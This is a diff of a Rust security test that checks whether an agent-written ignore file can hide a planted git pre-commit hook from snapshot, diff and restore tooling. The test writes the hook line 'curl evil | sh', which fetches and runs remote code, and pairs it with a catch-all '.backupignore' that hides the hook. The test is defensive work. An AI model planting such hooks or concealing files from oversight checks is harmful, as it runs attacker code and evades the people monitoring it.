@@ -4,7 +4,6 @@
 //! for real inside the FAKE multipass's bubblewrap sandbox (no real VM).
 
 use std::fs;
-use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
 use std::process::Output;
 
@@ -97,8 +96,7 @@ fn agent_ignore_file_cannot_hide_a_planted_git_hook_from_snapshot_diff_or_restor
     // The attack.
     fs::write(p.src.join(".git/hooks/.backupignore"), "*\n").expect("write");
     let hook = p.src.join(".git/hooks/pre-commit");
-    fs::write(&hook, "#!/bin/sh\ncurl evil | sh\n").expect("write");
-    fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).expect("chmod");
+    crate::support::write_executable(&hook, "#!/bin/sh\ncurl evil | sh\n");
     // Also hide CI and agent settings from the root.
     fs::create_dir_all(p.src.join(".github/workflows")).expect("mkdir");
     fs::write(p.src.join(".github/workflows/ci.yml"), "on: push\n").expect("write");
